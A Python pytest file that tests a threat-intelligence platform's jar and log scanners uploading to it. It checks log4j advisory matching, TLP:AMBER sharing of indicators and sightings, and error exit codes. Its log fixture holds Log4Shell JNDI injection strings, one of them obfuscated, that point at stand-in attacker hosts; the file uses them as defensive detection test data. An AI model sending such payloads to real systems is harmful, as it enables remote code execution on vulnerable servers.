"""``scan jars --upload`` and ``scan logs --upload`` end to end: real scanner processes
feeding a real running platform (SQLite and PostgreSQL). The jar inventory is matched (a
finding for log4j-core 2.14.1 once the advisory is published); the log scan's indicators
and sightings appear in the member's TAXII collection with their TLP, and another member
does not see them. Unreachable servers, refused tokens and bad arguments exit with the
documented codes."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from clearinghouse.db import Database
from clearinghouse.sharing.taxii_http import TAXII_MEDIA
from clearinghouse.timeutil import FixedClock
from tests.support.advisories import AdvisoryPlatform, advisory_platform, create_draft
from tests.support.collections import member_writable_collection

ATTACKS = (
    "GET / 200\n"
    '1.2.3.4 - - "GET /?q=%24%7Bjndi:ldap://cb.evil.example/a%7D HTTP/1.1" 200 1\n'
    '5.6.7.8 - - "GET / HTTP/1.1" 200 1 "${${lower:j}ndi:rmi://10.9.8.7:1099/x}"\n'
)


def scan(*args: str, token: str | None = None) -> subprocess.CompletedProcess[str]:
    """The scanners alone (``python -m clearinghouse.scan``), as an agent runs them."""
    env = {k: v for k, v in os.environ.items() if k != "CLEARINGHOUSE_TOKEN"}
    if token is not None:
        env["CLEARINGHOUSE_TOKEN"] = token
    return subprocess.run(
        [sys.executable, "-m", "clearinghouse.scan", *args],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env=env,
    )


@pytest.fixture
def platform(database: Database, clock: FixedClock) -> Iterator[AdvisoryPlatform]:
    with advisory_platform(database, clock) as p:
        yield p


@pytest.fixture
def collection(platform: AdvisoryPlatform) -> str:
    """A community collection the member may write to; its TAXII URL."""
    found = member_writable_collection(platform.database, platform.clock, "sightings", "Sightings")
    return f"{platform.url}/taxii2/root/collections/{found}/"


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.mark.shared_data
def test_scan_jars_upload_becomes_an_inventory_that_is_matched(
    platform: AdvisoryPlatform, shared_data: Path
) -> None:
    jar = shared_data / "jars" / "log4j" / "log4j-core-2.14.1.jar"
    token = platform.token(platform.world.member_admin, ["write"])
    done = scan("jars", str(jar), "--upload", platform.url, "--name", "app-01", "-f", "json",
                token=token)  # fmt: skip
    assert done.returncode == 0, done.stderr  # no advisory source given: nothing judged here
    assert "created inventory 'app-01' (upload 1): 1 component(s)" in done.stderr
    member = platform.login(platform.world.member_admin)
    (inventory,) = member.get("/api/v1/inventories").json()["items"]
    assert inventory["name"] == "app-01"
    components = member.get(f"/api/v1/inventories/{inventory['id']}/components").json()["items"]
    assert [(c["purl"], c["version"]) for c in components] == [
        ("pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1", "2.14.1")
    ]

    op = platform.operator()
    public_id = str(create_draft(op)["id"])
    assert op.post(f"/api/v1/advisories/{public_id}/publish", json={"summary": "now"}).is_success
    platform.run_jobs()
    (finding,) = member.get("/api/v1/findings").json()["items"]
    assert (finding["advisory"], finding["package"], finding["version"], finding["state"]) == (
        public_id,
        "org.apache.logging.log4j:log4j-core",
        "2.14.1",
        "new",
    )

    again = scan("jars", str(jar), "--upload", platform.url, "--name", "app-01", "--token", token)
    assert again.returncode == 0, again.stderr
    assert "replaced inventory 'app-01' (upload 2)" in again.stderr


def test_scan_logs_upload_puts_marked_sightings_in_the_members_collection(
    platform: AdvisoryPlatform, collection: str, tmp_path: Path
) -> None:
    log = tmp_path / "access.log"
    log.write_text(ATTACKS)
    token = platform.token(platform.world.member_admin, ["taxii"])
    done = scan("logs", str(log), "--upload", collection, "-f", "json", token=token)
    assert done.returncode == 1, done.stderr  # attempts found, and uploaded
    assert "uploaded: 4 of 4 STIX object(s) accepted (TLP:AMBER), 0 refused" in done.stderr

    def objects(reader_token: str) -> list[dict[str, Any]]:
        r = platform.client().get(
            collection + "objects/",
            headers={"Authorization": f"Bearer {reader_token}", "Accept": TAXII_MEDIA},
        )
        assert r.status_code == 200, r.text
        return list(r.json().get("objects", []))

    shared = objects(token)
    assert sorted(o["type"] for o in shared) == ["indicator", "indicator", "sighting", "sighting"]
    assert {o["pattern"] for o in shared if o["type"] == "indicator"} == {
        "[domain-name:value = 'cb.evil.example']",
        "[ipv4-addr:value = '10.9.8.7']",
    }
    amber = "marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421"  # TLP 2.0 AMBER
    assert all(o["object_marking_refs"] == [amber] for o in shared)
    # TLP:AMBER: the other member reads the community collection but not these objects
    other = platform.token(platform.world.other_admin, ["taxii"])
    assert objects(other) == []

    green = scan("logs", str(log), "--upload", collection, "--tlp", "green", token=token)
    # a new version may not lower the marking: each refusal is named, exit 2
    assert green.returncode == 2, green.stderr
    assert "refused" in green.stderr


def test_upload_errors_have_clear_messages_and_exit_codes(
    platform: AdvisoryPlatform, collection: str, tmp_path: Path
) -> None:
    log = tmp_path / "access.log"
    log.write_text(ATTACKS)
    taxii = platform.token(platform.world.member_admin, ["taxii"])
    read = platform.token(platform.world.member_admin, ["read"])
    unreachable = f"http://127.0.0.1:{closed_port()}"

    down = scan("jars", str(tmp_path), "--upload", unreachable, token=read)
    assert down.returncode == 8, down.stderr
    assert "cannot reach" in down.stderr
    down = scan("logs", str(log), "--upload", f"{unreachable}/taxii2/root/collections/x/",
                token=taxii)  # fmt: skip
    assert down.returncode == 8, down.stderr

    no_token = scan("jars", str(tmp_path), "--upload", platform.url)
    assert no_token.returncode == 2
    assert "needs an API token" in no_token.stderr
    bad_token = scan("jars", str(tmp_path), "--upload", platform.url, token="chk_not-a-token")
    assert bad_token.returncode == 5, bad_token.stderr
    assert "401" in bad_token.stderr
    assert "check the token" in bad_token.stderr
    read_only = scan("jars", str(tmp_path), "--upload", platform.url, token=read)
    assert read_only.returncode == 5, read_only.stderr
    assert "403" in read_only.stderr

    assert scan("jars", str(tmp_path), "--upload", "ftp://x", token=read).returncode == 2
    not_collection = scan("logs", str(log), "--upload", platform.url + "/taxii2/", token=taxii)
    assert not_collection.returncode == 2
    assert "TAXII 2.1 collection" in not_collection.stderr
    missing = collection.rsplit("/", 2)[0] + "/00000000-0000-0000-0000-000000000000/"
    unknown = scan("logs", str(log), "--upload", missing, token=taxii)
    assert unknown.returncode == 3, unknown.stderr
    no_scope = scan("logs", str(log), "--upload", collection, token=read)
    assert no_scope.returncode == 5, no_scope.stderr
    # nothing found: nothing posted, the scan's own exit code
    clean = tmp_path / "clean.log"
    clean.write_text("GET / 200\n")
    quiet = scan("logs", str(clean), "--upload", collection, token=taxii)
    assert quiet.returncode == 0, quiet.stderr
    assert "nothing" in quiet.stderr
